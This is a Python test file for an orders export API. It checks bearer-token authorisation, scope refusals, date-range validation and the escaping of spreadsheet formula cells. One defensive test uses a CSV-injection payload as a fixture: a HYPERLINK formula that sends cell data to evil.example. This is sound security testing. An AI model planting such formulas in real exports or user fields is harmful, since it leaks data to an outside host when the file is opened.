"""``GET /exports/orders.{csv,jsonl}``: authorised like GraphQL, streamed."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import httpx

from api.auth import Role
from api.db import Database
from api.spreadsheets import safe_cell
from tests.factories import api_key, staff_token
from tests.service.orders.conftest import POTSDAM, Shop

RANGE = {"from": "2000-01-01", "to": "2100-01-01"}


async def test_staff_and_keys_with_orders_read_download_the_orders(
    http: httpx.AsyncClient, database: Database, shop: Shop
) -> None:
    placed = await shop.place(("TEE-M", 2))
    token = await staff_token(database, Role.WAREHOUSE)
    answer = await http.get(
        "/exports/orders.csv", params=RANGE, headers={"authorization": f"Bearer {token}"}
    )
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == (
        'attachment; filename="orders-20000101T000000-21000101T000000.csv"'
    )
    header, row = answer.text.splitlines()
    assert header.startswith("order_number,placed_at,status")
    assert row.startswith(f"SO-{placed.order.id:06d},")

    key = await api_key(database, "orders:read")
    lines = await http.get(
        "/exports/orders.jsonl", params=RANGE, headers={"authorization": f"Bearer {key}"}
    )
    assert lines.headers["content-type"] == "application/x-ndjson"
    assert json.loads(lines.text)["lines"][0]["quantity"] == 2


async def test_the_export_is_refused_without_credentials_or_the_scope(
    http: httpx.AsyncClient, database: Database
) -> None:
    anonymous = await http.get("/exports/orders.csv", params=RANGE)
    assert anonymous.status_code == 401 and anonymous.headers["www-authenticate"] == "Bearer"
    key = await api_key(database, "inventory:read")
    scoped = await http.get(
        "/exports/orders.csv", params=RANGE, headers={"authorization": f"Bearer {key}"}
    )
    assert scoped.status_code == 403
    assert scoped.json() == {"error": "this needs the orders:read permission"}


async def test_bad_ranges_and_formats_are_refused_before_streaming(
    http: httpx.AsyncClient, database: Database
) -> None:
    headers = {"authorization": f"Bearer {await staff_token(database, Role.ADMIN)}"}
    cases = [
        ("/exports/orders.csv", {"from": "yesterday", "to": "2026-01-01"}, 400),
        ("/exports/orders.csv", {"from": "2026-02-01", "to": "2026-01-01"}, 400),
        ("/exports/orders.csv", {"from": "2026-01-01T00:00:00", "to": "2026-02-01"}, 400),
        ("/exports/orders.xml", RANGE, 404),
    ]
    for path, params, status in cases:
        answer = await http.get(path, params=params, headers=headers)
        assert answer.status_code == status, (params, answer.text)
    offset = await http.get(
        "/exports/orders.csv",
        params={"from": "2026-01-01T00:00:00+01:00", "to": "2026-01-02T00:00:00+01:00"},
        headers=headers,
    )
    assert offset.status_code == 200
    assert "orders-20251231T230000-20260101T230000.csv" in offset.headers["content-disposition"]


async def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped(
    http: httpx.AsyncClient, database: Database, shop: Shop
) -> None:
    hostile = replace(POTSDAM, name='=HYPERLINK("https://evil.example/?"&A1,"x")',
                      line1="+1 Main St", line2="@SUM(A1)")  # fmt: skip
    await shop.place(("TEE-M", 1), address=hostile)
    token = await staff_token(database, Role.ADMIN)
    answer = await http.get(
        "/exports/orders.csv", params=RANGE, headers={"authorization": f"Bearer {token}"}
    )
    [row] = list(csv.DictReader(io.StringIO(answer.text)))
    assert row["ship_name"] == "'" + hostile.name
    assert (row["ship_line1"], row["ship_line2"]) == ("'+1 Main St", "'@SUM(A1)")
    assert row["quantity"] == "1" and row["total"].isdigit(), "numbers are written as they are"


def test_safe_cells() -> None:
    assert [safe_cell(v) for v in ["=1+1", "-2", "\tx", "\rx", "@x", "plain", -3, 2.5, None]] == [
        "'=1+1", "'-2", "'\tx", "'\rx", "'@x", "plain", -3, 2.5, None,
    ]  # fmt: skip
